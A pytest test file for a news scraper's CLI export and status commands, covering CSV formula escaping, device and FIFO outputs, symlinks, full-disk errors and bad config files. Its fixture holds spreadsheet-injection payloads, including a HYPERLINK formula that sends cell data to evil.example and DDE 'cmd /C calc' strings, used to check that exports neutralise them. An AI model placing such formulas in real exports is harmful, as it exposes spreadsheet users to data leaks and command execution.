"""Items 2, 5 and 15: where `scraper export` and `status` write, and what the export holds."""

from __future__ import annotations

import csv
import io
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scraper.cli import exit_codes
from scraper.store import ArticleRecord, DiscoveredUrl, SQLiteStore
from tests.hostile.conftest import run_scraper
from tests.run.conftest import write_config

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
HOSTILE_CELLS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "authors": ("@SUM(1+1)*cmd|' /C calc'!A0",),
    "description": "+cmd|' /C notepad'!A0",
    "site_name": "-2+3",
}


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """A store holding one article whose fields are spreadsheet formulas."""
    with SQLiteStore.open(tmp_path / "scraper.sqlite3") as store:
        store.add_urls("list", [DiscoveredUrl("https://news.example/1")], NOW)
        record = ArticleRecord(
            url="https://news.example/1",
            canonical_url="https://news.example/1",
            source="list",
            text="\tTab-led body text.",
            markdown="Body",
            content_hash="h",
            **HOSTILE_CELLS,  # type: ignore[arg-type]
        )
        store.save_article(record, url_id=1, now=NOW, update=None)
    return write_config(tmp_path, '[[sources]]\nname = "list"\nurls = ["https://news.example/1"]\n')


def test_csv_export_prefixes_cells_that_a_spreadsheet_would_run_as_formulas(config: Path) -> None:
    done = run_scraper("export", "--config", str(config), "--format", "csv", cwd=config.parent)

    assert done.code == exit_codes.OK, done.stderr
    row = next(csv.DictReader(io.StringIO(done.stdout)))
    assert row["title"] == "'" + HOSTILE_CELLS["title"]
    assert row["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["description"] == "'+cmd|' /C notepad'!A0"
    assert row["site_name"] == "'-2+3"
    assert row["text"] == "'\tTab-led body text."
    assert row["url"] == "https://news.example/1"


@pytest.mark.parametrize("device", ["/dev/null", "/dev/full"])
def test_export_refuses_to_replace_a_device(config: Path, device: str) -> None:
    before = os.stat(device)

    done = run_scraper("export", "--config", str(config), "--output", device, cwd=config.parent)

    done.assert_one_line_error(exit_codes.USAGE, device, "device")
    after = os.stat(device)
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


@pytest.mark.parametrize(("name", "fragment"), [("", "needs a file name"), (".", "folder")])
def test_export_to_no_name_or_a_folder_is_one_line(config: Path, name: str, fragment: str) -> None:
    run_scraper("export", "--config", str(config), "--output", name, cwd=config.parent).assert_one_line_error(
        exit_codes.USAGE, fragment
    )


def test_export_through_a_symlink_replaces_the_real_file_and_keeps_the_link(config: Path, tmp_path: Path) -> None:
    real = tmp_path / "exports" / "latest.jsonl"
    real.parent.mkdir()
    real.write_text("old export\n")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(real)

    done = run_scraper("export", "--config", str(config), "--output", str(link), cwd=config.parent)

    assert done.code == exit_codes.OK, done.stderr
    assert link.is_symlink()
    assert '"canonical_url": "https://news.example/1"' in real.read_text()


def test_export_into_a_fifo_without_a_reader_fails_at_once(config: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)

    done = run_scraper("export", "--config", str(config), "--output", str(fifo), cwd=config.parent)

    done.assert_one_line_error(exit_codes.USAGE, "no process is reading")
    assert fifo.is_fifo()


def test_export_into_a_fifo_with_a_reader_writes_in_place(config: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    # A reader that never blocks; the export is far smaller than the pipe's buffer, so reading after it is safe.
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        done = run_scraper("export", "--config", str(config), "--output", str(fifo), cwd=config.parent)
        received = os.read(reader, 1024 * 1024)
    finally:
        os.close(reader)

    assert done.code == exit_codes.OK, done.stderr
    assert fifo.is_fifo()
    assert b"news.example/1" in received


@pytest.mark.parametrize(
    "args", [("status",), ("status", "--format", "json"), ("export",), ("export", "--format", "csv")]
)
def test_output_to_a_full_disk_is_one_line_and_exit_1(config: Path, args: tuple[str, ...]) -> None:
    with open("/dev/full", "wb") as full:
        done = run_scraper(*args, "--config", str(config), cwd=config.parent, stdout=full)

    done.assert_one_line_error(exit_codes.FAILED, "No space left on device")


@pytest.mark.parametrize(
    "args", [("--version",), ("--help",), ("run", "--help"), ("export", "-h"), ("discover", "--help")]
)
def test_version_and_help_to_a_full_disk_are_one_line_and_exit_1(tmp_path: Path, args: tuple[str, ...]) -> None:
    with open("/dev/full", "wb") as full:
        done = run_scraper(*args, cwd=tmp_path, stdout=full)

    done.assert_one_line_error(exit_codes.FAILED, "No space left on device")


def test_article_output_to_a_full_disk_is_one_line_and_exit_1(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(
        "<html><body><article><p>" + "A sentence of the article body. " * 20 + "</p></article></body></html>"
    )
    with open("/dev/full", "wb") as full:
        done = run_scraper(str(page), cwd=tmp_path, stdout=full)

    done.assert_one_line_error(exit_codes.FAILED, "No space left on device")


def test_a_since_before_year_one_is_a_usage_error_not_a_traceback(config: Path) -> None:
    done = run_scraper("export", "--config", str(config), "--since", "99999999d", cwd=config.parent)

    assert done.code == exit_codes.USAGE
    assert "Traceback" not in done.stderr and "year 1" in done.stderr


@pytest.mark.parametrize(
    ("content", "fragment"),
    [(b"[fetch]\nuser_agent = '\xff\xfe'\n", "not UTF-8"), (b"x" * (1024 * 1024 + 1), "larger than")],
)
def test_a_config_file_that_is_not_utf8_or_too_large_is_one_line(tmp_path: Path, content: bytes, fragment: str) -> None:
    (tmp_path / "bad.toml").write_bytes(content)

    run_scraper("status", "--config", "bad.toml", cwd=tmp_path).assert_one_line_error(exit_codes.USAGE, fragment)


def test_config_from_dev_zero_is_refused_without_reading_it_all(tmp_path: Path) -> None:
    run_scraper("status", "--config", "/dev/zero", cwd=tmp_path).assert_one_line_error(exit_codes.USAGE, "larger than")


def test_config_from_a_fifo_without_a_writer_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "config.fifo")

    done = run_scraper("status", "--config", "config.fifo", cwd=tmp_path)

    done.assert_one_line_error(exit_codes.FAILED, "no store")


def test_an_export_that_fails_part_way_on_a_full_disk_is_one_line(tmp_path: Path) -> None:
    """The article stream is still open when the write fails: it must end before its store closes."""
    with SQLiteStore.open(tmp_path / "scraper.sqlite3") as store:
        for number in range(300):
            url = f"https://news.example/{number}"
            store.add_urls("list", [DiscoveredUrl(url)], NOW)
            record = ArticleRecord(
                url=url, canonical_url=url, source="list", text="x" * 1000, markdown="x", content_hash="h"
            )
            store.save_article(record, url_id=number + 1, now=NOW, update=None)
    config = write_config(tmp_path, '[[sources]]\nname = "list"\nurls = ["https://news.example/0"]\n')

    with open("/dev/full", "wb") as full:
        done = run_scraper("export", "--config", str(config), cwd=tmp_path, stdout=full)

    done.assert_one_line_error(exit_codes.FAILED, "No space left on device")
